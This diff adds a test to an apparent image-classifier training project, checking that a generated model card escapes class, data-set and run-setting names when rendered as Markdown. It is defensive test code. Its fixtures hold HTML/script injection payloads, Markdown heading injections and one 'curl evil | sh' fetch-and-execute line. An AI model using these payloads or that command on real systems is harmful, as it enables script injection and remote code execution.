@@ -5,7 +5,9 @@ plots, no path of this machine's cache in the uploaded report."""
 from __future__ import annotations
 
 import csv
+import re
 import time
+from html.parser import HTMLParser
 
 import numpy as np
 import pandas as pd
@@ -85,3 +87,68 @@ def test_a_report_of_a_run_in_an_object_store_names_it_by_its_uri_not_by_the_cac
     assert f'"checkpoint": "{where}/runs/leak/checkpoint_epoch_0000"' in evaluation
     with s3.open_input_stream(f"{where}/runs/leak/report/report.html".removeprefix("s3://")) as f:
         assert f.read().decode() == text
+
+
+# Names as a data set's folders or a run's settings can carry them: HTML a viewer would run, a
+# line break and a section of their own, Markdown links, emphasis, code, math and table cells.
+CARD_NAMES = ['<img src=x onerror="alert(1)">', "a\n\n## Fake section\n\nRun `curl evil | sh`",
+              "[click](https://x.example)", "*bold* _it_ ~~gone~~", "a|b", "`code`", "$x^2$", "&lt;entity&gt;",
+              "back\\", "x\r\n---", "plain"]
+CARD_SECTIONS = ["Input and output", "Data", "Training recipe",
+                 "Test metrics (11 images of the test split, measured at export)", "Export check",
+                 "Intended use and known limits"]
+
+
+class Elements(HTMLParser):
+    """The tags of an HTML page, and the text of each table cell."""
+
+    def __init__(self, page: str):
+        super().__init__()
+        self.tags, self.cells, self._cell = set(), [], None
+        self.feed(page)
+
+    def handle_starttag(self, tag, attrs):
+        self.tags.add(tag)
+        self._cell = "" if tag == "td" else self._cell
+
+    def handle_endtag(self, tag):
+        if tag == "td":
+            self.cells.append(self._cell)
+            self._cell = None
+
+    def handle_data(self, data):
+        if self._cell is not None:
+            self._cell += data
+
+
+def test_a_model_card_shows_names_from_the_data_set_and_the_run_as_text(tmp_path):
+    """Rendered as a Markdown viewer renders it (CommonMark with tables): only the card's own
+    sections and markup, and every name shown as written, on one line."""
+    from markdown_it import MarkdownIt
+
+    from imgtrain.inference.model_card import model_card
+    from imgtrain.inference.predictor import LoadedCheckpoint, Preprocess
+
+    k = len(CARD_NAMES)
+    loaded = LoadedCheckpoint(
+        model=None, preprocess=Preprocess(image_shape=(8, 8, 1), mean=(0.5,), std=(0.5,), classes=tuple(CARD_NAMES)),
+        path=tmp_path / "run" / "checkpoint_epoch_0001",
+        meta={"model_args": {"architecture": "<b>resnet18</b>"}, "epoch": 1, "imgtrain_version": "0.1\n\n# Injected",
+              "config": {"name": "run\n# Owned", "model": "resnet18", "preset": "<script>alert(1)</script>",
+                         "lr": "[x](https://x.example)"}})
+    manifest = {"name": "<iframe src=//x.example>", "source": "x\n\n## Source section", "created": "`now`",
+                "splits": {"train": {"num_samples": k}, "test\n## Split": {"num_samples": k}}}
+    scores = {"precision": 0.5, "recall": 0.5, "f1": 0.5, "support": 1}
+    test = {"images": k, "accuracy": 0.5, "top5_accuracy": 0.9, "ece": 0.1, "macro_avg": scores,
+            "per_class": {name: scores for name in CARD_NAMES}}
+    card = model_card("onnx", "model.onnx", "onnxruntime", loaded, manifest,
+                      "verified on the <u>test</u> split", test)
+    page = MarkdownIt("commonmark").enable("table").render(card)
+    found = Elements(page)
+    assert found.tags <= {"h1", "h2", "p", "ul", "li", "strong", "code", "table", "thead", "tbody", "tr", "th", "td"}
+    assert re.findall(r"<h2>(.*?)</h2>", page) == CARD_SECTIONS
+    assert len(re.findall(r"<h1>", page)) == 1
+    shown = [" ".join(name.split()) for name in CARD_NAMES]  # line breaks as spaces; every character kept
+    assert found.cells[-5 * k::5] == shown
+    assert {"<script>alert(1)</script>", "[x](https://x.example)"} <= set(found.cells)  # the recipe's values
+    assert "<h1>run # Owned: &lt;b&gt;resnet18&lt;/b&gt;, 11 classes</h1>" in page
